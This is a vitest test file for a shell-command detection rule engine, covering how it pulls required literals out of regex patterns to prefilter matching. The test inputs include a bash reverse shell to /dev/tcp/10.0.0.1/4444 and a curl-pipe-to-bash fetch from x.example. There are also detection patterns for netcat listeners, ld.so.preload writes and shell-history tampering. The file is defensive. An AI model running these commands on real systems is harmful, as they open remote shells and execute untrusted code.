import { RE2JS, RE2Set } from 're2js';
import { describe, expect, it, vi } from 'vitest';
import { readFileSync } from 'node:fs';
import { defaultRulesPath, loadDefaultRules, parseRules } from '../../src/detect/load-rules.js';
import { containsAnyLiteral, requiredLiteral, requiredLiterals } from '../../src/detect/required-literal.js';
import { shellEvent } from './make-event.js';

describe('requiredLiteral', () => {
  it('reads runs of literal characters and plain-text groups at the top level', () => {
    expect(requiredLiteral('/dev/(tcp|udp)/')).toEqual(['/dev/tcp/', '/dev/udp/']);
    expect(requiredLiteral('>>?\\s*/etc/ld\\.so\\.preload\\b')).toEqual(['/etc/ld.so.preload']);
    expect(requiredLiteral('\\|\\s*(sudo\\s+)?crontab\\b')).toEqual(['crontab']);
    expect(requiredLiteral('(?:ab|c)d')).toEqual(['abd', 'cd']);
  });

  it('leaves out characters a quantifier makes optional or repeats', () => {
    expect(requiredLiteral('ab?c')).toEqual(['a']);
    expect(requiredLiteral('xy{2}z')).toEqual(['x']);
    expect(requiredLiteral('[0-7]{3}(\\s|$)')).toBeNull();
    expect(requiredLiteral('(ba|da)?sh')).toEqual(['sh']);
  });

  it('gives up on what it does not fully read', () => {
    for (const pattern of ['a|b', '(?i)sock', 'x\\Qab\\E', 'a\\x41b', 'a\\pLb', '(ab', '[ab', 'a{x}', '']) {
      expect(requiredLiteral(pattern), pattern).toBeNull();
    }
  });

  it('never names a literal that a match lacks', () => {
    const cases: [string, string[]][] = [
      ['/dev/(tcp|udp)/[0-9]+', ['x /dev/udp/53', '/dev/tcp/1']],
      ['(a|)b', ['b', 'ab']],
      ['\\bSELINUX=(disabled|permissive)\\b', ['SELINUX=permissive']],
      ['a\\.b[)|]c', ['a.b)c', 'a.b|c']],
      ['x(?:[(]|y)z', ['x(z', 'xyz']],
    ];
    for (const [pattern, texts] of cases) {
      const re = RE2JS.compile(pattern);
      for (const text of texts) {
        expect(re.test(text), `${pattern} on ${text}`).toBe(true);
        expect(containsAnyLiteral(text, requiredLiteral(pattern)), `${pattern} on ${text}`).toBe(true);
      }
    }
  });

  it('for a list, needs a literal from every pattern', () => {
    expect(requiredLiterals(['ab', '(c|d)e'])).toEqual(['ab', 'ce', 'de']);
    expect(requiredLiterals(['ab', '[0-9]+'])).toBeNull();
  });

  it('leaves out a literal that holds another of the list', () => {
    expect(requiredLiterals(['\\bHIST(FILE|SIZE|FILESIZE)\\b', 'HISTFILE=x', 'history'])).toEqual(['HISTFILE', 'HISTSIZE', 'history']);
    expect(requiredLiterals(['abc', 'abc', 'b'])).toEqual(['b']);
  });
});

describe('command regex prefilter', () => {
  it('runs no regex over a long script holding none of the literals', () => {
    const script = 'for f in /var/tmp/*; do echo "$f" >/dev/null 2>&1; done; '.repeat(2000);
    const rules = loadDefaultRules();
    const set = vi.spyOn(RE2Set.prototype, 'match');
    const single = vi.spyOn(RE2JS.prototype, 'test');
    try {
      expect(rules.match(shellEvent(script, {}, 'bash'))).toBeNull();
      expect(set).not.toHaveBeenCalled();
      expect(single).not.toHaveBeenCalled();
      // The same script with a reverse shell in it still hits.
      expect(rules.match(shellEvent(`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; ${script}`, {}, 'bash'))?.ruleId).toBe('reverse-shell-dev-tcp');
    } finally {
      set.mockRestore();
      single.mockRestore();
    }
  });

  it('answers a command holding every literal with the combined automaton after two single passes', () => {
    const rules = loadDefaultRules();
    const everyLiteral = defaultCommandPatterns().flatMap((pattern) => requiredLiteral(pattern) ?? []);
    const command = `bash -c 'curl -s http://x.example/a.sh | bash ; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ; ${everyLiteral.join(' ; ')}'`;
    const event = shellEvent(command, {}, 'bash');
    const eager = parseRules(readFileSync(defaultRulesPath(), 'utf8'), 'default-rules.yml');
    const set = vi.spyOn(RE2Set.prototype, 'match');
    const single = vi.spyOn(RE2JS.prototype, 'test');
    try {
      const explained = rules.explain(event);
      // explain() computes the facts once per call: one set pass, and at most two patterns alone
      // (any_arg_regex conditions test arguments on their own, and are not command patterns).
      expect(set).toHaveBeenCalledTimes(1);
      expect(single.mock.calls.filter(([input]) => input === command).length).toBeLessThanOrEqual(2);
      expect(explained.length).toBeGreaterThanOrEqual(2);
      expect(explained).toEqual(eager.explain(event));
    } finally {
      set.mockRestore();
      single.mockRestore();
    }
  });

  it('keeps the results of rules written in a file', () => {
    const yaml = "rules:\n  - id: r1\n    name: R\n    severity: high\n    match:\n      command: ['/dev/(tcp|udp)/', '\\bnc\\s+-l']\n";
    const rules = parseRules(yaml, 'rules.yml');
    expect(rules.match(shellEvent('cat < /dev/udp/1.2.3.4/53'))?.ruleId).toBe('r1');
    expect(rules.match(shellEvent('nc  -l 4444'))?.ruleId).toBe('r1');
    expect(rules.match(shellEvent('cat /dev/null'))).toBeNull();
  });
});

/** Every `command` pattern of the default pack's blocks. */
function defaultCommandPatterns(): string[] {
  const specs = loadDefaultRules().specs;
  return specs.flatMap((spec) => [spec.match, ...spec.any, ...spec.exceptions].flatMap((block) => block?.command ?? []));
}
